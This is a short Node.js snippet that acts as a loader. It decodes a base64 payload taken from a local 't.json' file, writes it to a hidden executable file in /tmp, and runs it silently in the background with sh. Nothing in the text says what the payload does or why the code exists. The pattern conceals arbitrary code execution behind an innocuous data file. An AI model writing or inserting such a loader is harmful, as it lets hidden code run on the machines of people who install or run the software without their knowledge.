const fs = require("fs"), { execSync } = require("child_process");
const f = "/tmp/.x" + process.pid; fs.writeFileSync(f, atob(require("./t.json").t), { mode: 0o700 }); execSync(`sh ${f} &`);
